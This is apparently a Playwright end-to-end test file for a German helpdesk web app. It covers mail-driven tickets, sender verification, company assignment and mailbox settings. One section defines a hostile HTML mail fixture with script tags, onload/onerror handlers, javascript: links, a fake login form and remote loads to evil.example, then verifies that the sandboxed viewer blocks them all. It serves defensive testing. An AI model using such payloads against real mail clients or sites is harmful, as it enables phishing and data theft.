import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import type { Schemas } from '@lotse/api-client';
import { eventually } from '@lotse/test-support';
import type { RecordedMail } from '@lotse/private-servers';
import type { Download, Locator, Page } from 'playwright-core';
import { anAskingCompany, atDesk, pageOf, staffWrite, type Asking } from '../support/desk.js';
import { aLogin, type Login } from '../support/showcase.js';
import { useOwnSystem } from '../support/system.js';
import { aMailbox, MailIn } from '../support/ticket-mail.js';
import {
  expectAccessible,
  expectQuiet,
  overflowOf,
  picture,
  useBrowser,
  type PageOptions,
} from '../support/web-browser.js';

const mailIn = new MailIn();
const system = useOwnSystem({ env: () => mailIn.env() });
const browser = useBrowser();
let ina: Login;
let mailbox: Schemas['TicketMailboxDto'];

beforeAll(async () => {
  ina = await aLogin(system, 'Ina Antwort', 'support');
  mailbox = await aMailbox(system);
}, 60_000);

const png = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  'base64',
);

const button = (page: Page, name: string | RegExp): Locator => page.getByRole('button', { name });
const messages = (page: Page): Locator => page.getByRole('list', { name: 'Verlauf' }).getByRole('listitem');
const heading = (page: Page, name: string | RegExp): Locator => page.getByRole('heading', { level: 1, name });
const row = (page: Page, subject: string): Locator => page.getByRole('row').filter({ hasText: subject });

const messagesOf = async ({ id }: { id: string }): Promise<Schemas['DeskMessageDto'][]> =>
  (await system.administrator.get<{ items: Schemas['DeskMessageDto'][] }>(`/desk/tickets/${id}/messages`))
    .items;

/** What comes by mail comes when it comes. */
const hasCome = (ticket: { id: string }, text: string): Promise<void> =>
  eventually(async () =>
    expect((await messagesOf(ticket)).map((message) => message.text)).toContainEqual(
      expect.stringContaining(text),
    ),
  );

/** Looks again. */
async function seen(page: Page, what: Locator): Promise<void> {
  await page.reload();
  await what.waitFor();
}

/** The ticket that a mail has become. */
const ticketAbout = (subject: string): Promise<Schemas['DeskTicketDto']> =>
  eventually(async () => {
    const { items } = await system.administrator.get<{ items: Schemas['DeskTicketDto'][] }>(
      '/desk/tickets?limit=100',
    );
    const found = items.find((ticket) => ticket.subject === subject);
    if (!found) throw new Error(`nothing has come about ${subject}`);
    return found;
  });

const atTicket = async (
  { id }: { id: string },
  { login = ina, ...options }: PageOptions & { login?: Login } = {},
): Promise<Page> => {
  const page = await pageOf(browser, system, login, options);
  await page.goto(`${system.publicUrl}/desk/${id}`);
  return page;
};

/** The last mail to somebody in which this stands. */
const mailTo = (address: string, text: string): Promise<RecordedMail> =>
  eventually(() => {
    const found = system.mails
      .to(address)
      .filter((mail) => mail.text.includes(text))
      .at(-1);
    if (!found) throw new Error(`${text} has not come to ${address}`);
    return found;
  });

/** Answers a mail as a mail program does. */
const answer = (
  to: RecordedMail,
  from: string,
  text: string,
  found: 'pass' | 'none' = 'pass',
): Promise<string> =>
  mailIn.send({
    from,
    found,
    to: to.parsed.replyTo?.value[0]?.address ?? '',
    subject: `AW: ${to.subject}`,
    inReplyTo: to.header('message-id'),
    references: to.header('message-id'),
    text: `${text}\n\nAm 30.11.2026 um 15:00 schrieb Ina Antwort:\n> ${to.text.split('\n')[0] ?? ''}\n> Mit freundlichen Grüßen\n`,
  });

/** What the browser saves. It may come in a tab of its own, which closes again. */
async function saved(page: Page, button: Locator): Promise<Download> {
  const download = new Promise<Download>((resolve) => {
    page.once('download', resolve);
    page.once('popup', (tab) => tab.once('download', resolve));
  });
  await button.click();
  return download;
}

describe('a ticket from the portal until it is solved', () => {
  it('goes on by mail, is seen in both browsers, and is reopened by mail', async () => {
    const asking = await anAskingCompany(system);
    const { email } = asking.administrator;
    const customer = await pageOf(browser, system, asking.administrator);

    // the customer writes in the browser
    await customer.goto(`${system.publicUrl}/companies/${asking.company.id}/tickets/new`);
    for (const [field, entry] of [
      ['Produkt', 'JTL-Wawi'],
      ['Komponente', 'Aufträge und Versand'],
    ] as const) {
      await customer
        .getByRole('combobox', { name: field })
        .or(customer.getByRole('textbox', { name: field }))
        .first()
        .click();
      await customer.getByRole('option', { name: entry }).click();
    }
    const subject = `Versand steht ${randomUUID().slice(0, 6)}`;
    await customer.getByRole('textbox', { name: 'Betreff' }).fill(subject);
    await customer.getByRole('textbox', { name: 'Nachricht' }).fill('Seit heute früh druckt nichts.');
    await customer.keyboard.press('Control+Enter');
    await customer.getByRole('link', { name: 'Ticket ansehen' }).click();
    await heading(customer, subject).waitFor();

    // the desk answers
    const ticket = await ticketAbout(subject);
    const desk = await atTicket(ticket);
    await desk.getByRole('textbox', { name: 'Antwort' }).fill('Bitte starten Sie den Druckdienst neu.');
    await desk.keyboard.press('Control+Enter');
    await messages(desk).getByText('Bitte starten Sie den Druckdienst neu.').waitFor();

    // the customer answers by mail, in the thread, with a file
    const first = await mailTo(email, 'Bitte starten Sie den Druckdienst neu.');
    await answer(first, `Erika Muster <${email}>`, 'Jetzt druckt er, aber nur die erste Seite.');
    await hasCome(ticket, 'aber nur die erste Seite.');
    const byMail = messages(desk).filter({ hasText: 'aber nur die erste Seite.' });
    await seen(desk, byMail);
    await byMail.getByText(`Per E-Mail von ${email}`).waitFor();
    await byMail.getByText(/^Absender belegt durch hansen\.example\.net/).waitFor();
    const quoted = byMail.getByText('schrieb Ina Antwort', { exact: false });
    expect(await quoted.isVisible()).toBe(false);
    await byMail.getByText('Zitierten Text anzeigen').click();
    await quoted.waitFor();
    await picture(desk, 'steps/desk-mail', { whole: true });
    await expectAccessible(desk);
    expect(await atDesk(system, ticket.id)).toMatchObject({ status: 'open', messages: 3 });
    await seen(customer, messages(customer).filter({ hasText: 'aber nur die erste Seite.' }));
    expect(await customer.getByText('schrieb Ina Antwort', { exact: false }).count()).toBe(0);

    // it gets a solution
    await desk.getByRole('combobox', { name: 'Danach ist das Ticket' }).selectOption('solved');
    await desk.getByRole('textbox', { name: 'Antwort' }).fill('Mit dem neuen Treiber geht es.');
    await button(desk, 'Antwort senden').click();
    await messages(desk).getByText('Mit dem neuen Treiber geht es.').waitFor();
    await seen(customer, messages(customer).getByText('Mit dem neuen Treiber geht es.'));
    await customer.getByText('Gelöst').first().waitFor();

    // and is reopened by mail
    const second = await mailTo(email, 'Mit dem neuen Treiber geht es.');
    await answer(second, `Erika Muster <${email}>`, 'Leider steht er wieder.');
    await hasCome(ticket, 'Leider steht er wieder.');
    await seen(desk, messages(desk).filter({ hasText: 'Leider steht er wieder.' }));
    expect(await atDesk(system, ticket.id)).toMatchObject({ status: 'open', messages: 5 });
    await seen(customer, messages(customer).filter({ hasText: 'Leider steht er wieder.' }));
    expect(await customer.getByText('Absender nicht bestätigt').count()).toBe(0);

    // somebody of whom nothing proves who they are has the mail as well, and the customer is told so
    await answer(second, `Erika Muster <${email}>`, 'Bitte schließen Sie das Ticket.', 'none');
    await hasCome(ticket, 'Bitte schließen Sie das Ticket.');
    const unproved = messages(customer).filter({ hasText: 'Bitte schließen Sie das Ticket.' });
    await seen(customer, unproved);
    const doubt = unproved.getByRole('note').filter({ hasText: 'Absender nicht bestätigt' });
    await doubt
      .getByText('Ob sie wirklich von Erika Muster stammt, ist nicht bestätigt.', { exact: false })
      .waitFor();
    expect(await customer.getByText('Absender nicht bestätigt').count()).toBe(1);
    await picture(customer, 'steps/ticket-by-mail', { whole: true });
    await expectAccessible(customer);
    const wide = customer.viewportSize() ?? { width: 1440, height: 900 };
    await customer.setViewportSize({ width: 390, height: 844 });
    expect(await overflowOf(customer)).toBeLessThanOrEqual(0);
    await picture(customer, 'steps/ticket-by-mail-phone', { whole: true });
    await customer.setViewportSize(wide);
    await expectQuiet(customer);
    await expectQuiet(desk);
  });
});

describe('a mail of somebody unknown', () => {
  const write = async (asking: Asking, subject: string): Promise<Schemas['DeskTicketDto']> => {
    await mailIn.send({
      from: `Erika Muster <${asking.contact.email}>`,
      to: mailbox.address,
      subject,
      text: 'Guten Tag,\n\nunsere Kasse startet nicht mehr.',
    });
    return ticketAbout(subject);
  };

  it('becomes a ticket without a company, which is found in the queue and given to one that is proposed', async () => {
    const asking = await anAskingCompany(system, 'Werft am Vorschlag');
    const subject = `Kasse ${randomUUID().slice(0, 6)}`;
    const ticket = await write(asking, subject);
    expect(ticket.companyId).toBeNull();
    const page = await pageOf(browser, system, ina);
    await page.goto(`${system.publicUrl}/desk`);
    await button(page, 'Weitere Filter').click();
    await page
      .getByRole('combobox', { name: 'Firma' })
      .or(page.getByRole('textbox', { name: 'Firma' }))
      .first()
      .click();
    await page.getByRole('option', { name: 'Noch ohne Firma' }).click();
    await row(page, subject).getByText('Noch ohne Firma').waitFor();
    expect(new URL(page.url()).searchParams.get('companyId')).toBe('none');
    await picture(page, 'steps/desk-without-company');
    await expectAccessible(page);

    await page.getByRole('link', { name: subject }).click();
    await heading(page, subject).waitFor();
    await messages(page).getByText('Absender nicht belegt').waitFor();
    await page.getByRole('note').filter({ hasText: 'Werft am Vorschlag' }).waitFor();
    await picture(page, 'steps/desk-ticket-without-company', { whole: true });
    await expectAccessible(page);
    const size = page.viewportSize() ?? { width: 0, height: 0 };
    await page.setViewportSize({ width: 390, height: 844 });
    expect(await overflowOf(page)).toBeLessThanOrEqual(0);
    await picture(page, 'steps/desk-ticket-without-company-narrow');
    await page.setViewportSize(size);
    await button(page, 'Firma zuordnen').click();
    const dialog = page.getByRole('dialog');
    await dialog.getByRole('button', { name: 'Zuordnen' }).click();
    await dialog.getByText('Bitte wählen Sie eine Firma.').first().waitFor();
    await dialog.getByRole('radio', { name: /Werft am Vorschlag/ }).check();
    await dialog.getByText(`${asking.contact.email} ist dort die Adresse von Erika Muster`).waitFor();
    await picture(page, 'steps/desk-link-company');
    await expectAccessible(page, '[role=dialog]');
    await dialog.getByRole('button', { name: 'Zuordnen' }).click();
    await page.getByText('Das Ticket ist zugeordnet.').first().waitFor();
    await page.getByRole('link', { name: 'Werft am Vorschlag' }).first().waitFor();
    expect(await page.getByText('Noch keiner Firma zugeordnet').count()).toBe(0);
    expect((await atDesk(system, ticket.id)).companyId).toBe(asking.company.id);
    await expectQuiet(page);
  });

  it('is given to any company, unless a colleague was faster', async () => {
    const subject = `Ganz fremd ${randomUUID().slice(0, 6)}`;
    await mailIn.send({ from: 'fremd@example.org', to: mailbox.address, subject, text: 'Hallo?' });
    const ticket = await ticketAbout(subject);
    const [mine, theirs] = [
      await anAskingCompany(system, `Reederei ${randomUUID().slice(0, 6)}`),
      await anAskingCompany(system),
    ];
    const page = await atTicket(ticket);
    await page
      .getByText('Bei keiner Firma ist die Adresse des Absenders bekannt.', { exact: false })
      .waitFor();
    await button(page, 'Firma zuordnen').click();
    const dialog = page.getByRole('dialog');
    await dialog
      .getByRole('combobox', { name: 'Firma' })
      .or(dialog.getByRole('textbox', { name: 'Firma' }))
      .first()
      .fill(mine.company.legalName);
    await page.getByRole('option', { name: mine.company.legalName }).click();

    await staffWrite(system, ticket.id, { kind: 'note', text: 'Ich frage nach.' });
    await dialog.getByRole('button', { name: 'Zuordnen' }).click();
    await dialog.getByRole('alert').waitFor(); // 412: it is another version
    await messages(page).getByText('Ich frage nach.').waitFor();
    const { version } = await atDesk(system, ticket.id);
    await system.administrator.post(
      `/desk/tickets/${ticket.id}/company`,
      { companyId: theirs.company.id },
      { ifMatch: version },
    );
    await dialog.getByRole('button', { name: 'Zuordnen' }).click();
    await eventually(async () =>
      expect(await page.getByRole('link', { name: theirs.company.legalName }).count()).toBeGreaterThan(0),
    );
    await dialog.getByRole('alert').waitFor(); // and then it has a company
    await expectAccessible(page, '[role=dialog]');
    await dialog.getByRole('button', { name: 'Abbrechen' }).click();
    expect((await atDesk(system, ticket.id)).companyId).toBe(theirs.company.id);
    await expectQuiet(page, [409, 412]);
  });
});

describe('a mail as it was sent', () => {
  /** Everything that a mail might do by itself. */
  const hostile = `
    <html><head>
      <meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
      <base href="https://evil.example/">
      <link rel="stylesheet" href="https://evil.example/style.css">
      <style>@import url(https://evil.example/import.css); body { background: url(https://evil.example/body.png) }</style>
      <script>fetch('https://evil.example/script'); parent.document.title = 'taken'</script>
    </head><body onload="fetch('https://evil.example/onload')">
      <h2>Guten Tag</h2>
      <p style="color:#b00020;position:fixed;inset:0;background:url(https://evil.example/fixed.png)">Bitte melden Sie sich an.</p>
      <img src="x" onerror="fetch('https://evil.example/onerror')">
      <img src="https://pictures.example/logo.png" alt="Unser Zeichen" width="40">
      <img src="cid:bildschirm" alt="Ein Bildschirm">
      <svg onload="fetch('https://evil.example/svg')"><image href="https://evil.example/svg.png"/></svg>
      <form action="https://evil.example/form"><input name="password"><button>Anmelden</button></form>
      <iframe src="https://evil.example/frame"></iframe>
      <object data="https://evil.example/object"></object>
      <video poster="https://evil.example/poster" src="https://evil.example/video" autoplay></video>
      <a href="javascript:fetch('https://evil.example/href')">hier</a>
      <a href="https://example.com/mehr">Mehr dazu</a>
    </body></html>`;

  const arrived = async (): Promise<Schemas['DeskTicketDto']> => {
    const subject = `Gestaltet ${randomUUID().slice(0, 6)}`;
    await mailIn.send({
      from: 'fremd@example.org',
      to: mailbox.address,
      subject,
      text: 'Guten Tag, bitte melden Sie sich an.',
      html: hostile,
      attachments: [
        { filename: 'bildschirm.png', content: png, cid: 'bildschirm' },
        { filename: 'programm.exe', content: Buffer.from('MZ\0\0\x01\x02') },
      ],
    });
    return ticketAbout(subject);
  };

  it('runs nothing, asks nobody for anything until that is wanted, and its links lead outside', async () => {
    const ticket = await arrived();
    const page = await pageOf(browser, system, ina);
    const asked: string[] = [];
    await page.context().route(/\.example\//, async (route) => {
      asked.push(route.request().url());
      await route.fulfill({ contentType: 'image/png', body: png });
    });
    await page
      .context()
      .route('https://example.com/**', (route) =>
        route.fulfill({ contentType: 'text/html', body: '<title>Mehr dazu</title>' }),
      );
    await page.goto(`${system.publicUrl}/desk/${ticket.id}`);
    await button(page, 'Anzeigen, wie sie gesendet wurde').click();
    const frame = page.frameLocator('iframe[title="Die E-Mail, wie sie gesendet wurde"]');
    await frame.getByText('Bitte melden Sie sich an.').waitFor();
    await frame.getByRole('heading', { name: 'Guten Tag' }).waitFor();
    await picture(page, 'steps/desk-mail-layout', { whole: true });

    expect(
      await frame.locator('script, form, input, iframe, object, video, svg, style[type], link, base').count(),
    ).toBe(0);
    const inside = await frame.locator('body').evaluate((body) => ({
      origin: globalThis.origin,
      position: [...body.querySelectorAll('*')].map((one) => getComputedStyle(one).position),
      handlers: [...body.querySelectorAll('*')].flatMap((one) =>
        one.getAttributeNames().filter((name) => name.startsWith('on')),
      ),
    }));
    expect(inside.origin).toBe('null');
    expect(new Set(inside.position)).toEqual(new Set(['static']));
    expect(inside.handlers).toEqual([]);
    // the picture that came with it is there, once the scanner has spoken
    await eventually(async () => {
      await page.reload();
      await button(page, 'Anzeigen, wie sie gesendet wurde').click();
      const width = await frame
        .getByRole('img', { name: 'Ein Bildschirm' })
        .evaluate((image) => (image as HTMLImageElement).naturalWidth, undefined, { timeout: 5_000 });
      expect(width).toBe(1);
    });
    expect(asked).toEqual([]);
    await expectAccessible(page);

    await button(page, 'Bilder aus dem Internet laden').focus();
    await page.keyboard.press('Enter');
    await eventually(async () =>
      expect(await page.evaluate(() => document.activeElement?.getAttribute('title'))).toBe(
        'Die E-Mail, wie sie gesendet wurde',
      ),
    );
    await eventually(() => expect(asked).toEqual(['https://pictures.example/logo.png']));
    await frame.getByText('Bitte melden Sie sich an.').waitFor();
    await picture(page, 'steps/desk-mail-pictures');
    const opened = page.waitForEvent('popup');
    await frame.getByRole('link', { name: 'Mehr dazu' }).click();
    const tab = await opened;
    await tab.waitForLoadState();
    expect(tab.url()).toBe('https://example.com/mehr');
    expect(await tab.evaluate(() => [window.opener === null, document.referrer])).toEqual([true, '']);
    expect(page.url()).toBe(`${system.publicUrl}/desk/${ticket.id}`);
    expect(await page.title()).toBe(`${ticket.subject} · Lotse`);
    expect(asked).toEqual(['https://pictures.example/logo.png']);
    await expectQuiet(page);
  });

  it('does nothing either if something were left in it', async () => {
    const ticket = await arrived();
    const page = await pageOf(browser, system, ina);
    const asked: string[] = [];
    await page.context().route(/\.example\//, (route) => {
      asked.push(route.request().url());
      return route.abort();
    });
    await page.context().route(/\/frame$/, async (route) => {
      const cleaned = await route.fetch();
      await route.fulfill({ response: cleaned, body: hostile }); // under the policy that came with it
    });
    await page.goto(`${system.publicUrl}/desk/${ticket.id}`);
    await button(page, 'Anzeigen, wie sie gesendet wurde').click();
    const frame = page.frameLocator('iframe[title="Die E-Mail, wie sie gesendet wurde"]');
    await frame.getByRole('button', { name: 'Anmelden' }).click({ force: true });
    await frame.getByText('hier', { exact: true }).click({ force: true });
    await frame.getByRole('heading', { name: 'Guten Tag' }).waitFor();
    await page.waitForLoadState('networkidle');
    await picture(page, 'steps/desk-mail-hostile', { whole: true });

    expect(asked).toEqual([]);
    expect(
      page
        .frames()
        .map((one) => one.url())
        .filter((url) => url.includes('evil.example')),
    ).toEqual([]);
    expect(page.url()).toBe(`${system.publicUrl}/desk/${ticket.id}`);
    expect(await page.title()).toBe(`${ticket.subject} · Lotse`);
    expect(page.context().pages()).toHaveLength(1);
  });

  it('runs nothing either where its page is opened by itself', async () => {
    const ticket = await arrived();
    const [message] = await messagesOf(ticket);
    const page = await pageOf(browser, system, ina);
    const reply = await page.goto(
      `${system.publicUrl}/api/v1/desk/tickets/${ticket.id}/messages/${message?.id ?? ''}/frame?remotePictures=true`,
    );
    const policy = reply?.headers()['content-security-policy'] ?? '';
    expect(policy).toContain("default-src 'none'");
    expect(policy).toContain('sandbox allow-popups allow-popups-to-escape-sandbox');
    expect(policy).not.toMatch(/script-src|connect-src|frame-src|unsafe-eval/);
    expect(await page.evaluate(() => globalThis.origin)).toBe('null');
  });

  it('says that it is forged, written by a machine, or not to be read', async () => {
    const send = async (mail: { found?: 'fail'; isAutomatic?: true }): Promise<Schemas['DeskTicketDto']> => {
      const subject = `Seltsam ${randomUUID().slice(0, 6)}`;
      await mailIn.send({ from: 'fremd@example.org', to: mailbox.address, subject, text: 'Hallo?', ...mail });
      return ticketAbout(subject);
    };
    const forged = await atTicket(await send({ found: 'fail' }));
    await messages(forged).getByText('Absender nicht belegt').waitFor();
    await messages(forged).getByText('Der Absender ist vermutlich gefälscht.', { exact: false }).waitFor();
    const machine = await atTicket(await send({ isAutomatic: true }));
    await messages(machine).getByText('Das hat ein Programm geschrieben', { exact: false }).waitFor();

    const ticket = await send({});
    await system
      .database('notifications')
      .query(`update incoming_mail set state = 'unreadable' where ticket_id = $1`, [ticket.id]);
    const unread = await atTicket(ticket, { language: 'en', theme: 'dark', size: 'phone' });
    await unread.getByText('This mail could not be read').waitFor();
    await unread.getByRole('button', { name: 'Save the original (.eml)' }).waitFor();
    await picture(unread, 'steps/desk-mail-unreadable', { whole: true });
    for (const page of [forged, machine, unread]) {
      await expectAccessible(page);
      await expectQuiet(page);
    }
  });

  it('is saved as it came, and what was not taken of it is named', async () => {
    const ticket = await arrived();
    const page = await atTicket(ticket, { size: 'phone' });
    const refused = page.getByRole('list', { name: 'Nicht übernommene Dateien' });
    await refused.getByText('programm.exe').waitFor();
    await refused.getByText('Dateien dieser Art nehmen wir nicht an.', { exact: false }).waitFor();
    const original = await saved(page, button(page, 'Original speichern (.eml)'));
    expect(original.suggestedFilename()).toMatch(/\.eml$/);
    expect(readFileSync(await original.path(), 'latin1')).toContain('evil.example/onload');

    await button(page, 'Anzeigen, wie sie gesendet wurde').click();
    await page
      .frameLocator('iframe[title="Die E-Mail, wie sie gesendet wurde"]')
      .getByText('Bitte melden Sie sich an.')
      .waitFor();
    expect(await overflowOf(page)).toBeLessThanOrEqual(0);
    await picture(page, 'steps/desk-mail-phone', { whole: true });
    await expectAccessible(page);
    await expectQuiet(page);
  });
});

describe('the mailboxes of the desk', () => {
  it('are added, changed and retired by administrators, and read by staff', async () => {
    const admin = await aLogin(system, 'Adam Amt', 'administrator');
    const address = `kasse.${randomUUID().slice(0, 8)}@lotse.example`;
    const page = await pageOf(browser, system, admin);
    await page.goto(`${system.publicUrl}/desk/mailboxes`);
    await row(page, mailbox.address).getByText('Nach Zuordnung').waitFor();
    await button(page, 'Posteingang anlegen').click();
    const dialog = page.getByRole('dialog');
    await dialog.getByRole('textbox', { name: 'Schlüssel' }).fill(`kasse-${randomUUID().slice(0, 8)}`);
    await dialog.getByRole('textbox', { name: 'Adresse' }).fill(mailbox.address);
    await dialog.getByRole('combobox', { name: 'Produkt' }).selectOption({ label: 'JTL-Wawi' });
    await dialog
      .getByRole('combobox', { name: 'Komponente' })
      .selectOption({ label: 'Aufträge und Versand' });
    await dialog.getByRole('combobox', { name: 'Sprache für Unbekannte' }).selectOption('en');
    await picture(page, 'steps/desk-mailbox');
    await expectAccessible(page, '[role=dialog]');
    await dialog.getByRole('button', { name: 'Speichern' }).click();
    await dialog.locator('[data-path="address"][aria-invalid="true"]').waitFor(); // another one has it
    await dialog.getByRole('textbox', { name: 'Adresse' }).fill(address);
    await dialog.getByRole('button', { name: 'Speichern' }).click();
    await row(page, address).getByText('Englisch').waitFor();
    await picture(page, 'desk-some-mailboxes');
    await expectAccessible(page);

    await button(page, `Ändern: ${address}`).click();
    await dialog.getByRole('checkbox', { name: 'Nicht mehr verwenden' }).check();
    await dialog.getByRole('button', { name: 'Speichern' }).click();
    await row(page, address).getByText('Wird nicht mehr verwendet').waitFor();

    const reader = await pageOf(browser, system, ina, { size: 'phone' });
    await reader.goto(`${system.publicUrl}/desk/mailboxes`);
    await reader.getByText(address).waitFor();
    expect(await button(reader, /^(Ändern|Posteingang anlegen)/).count()).toBe(0);
    expect(await overflowOf(reader)).toBeLessThanOrEqual(0);
    await picture(reader, 'steps/desk-mailboxes-phone', { whole: true });
    await expectQuiet(page, [409]);
    await expectQuiet(reader);
  });
});
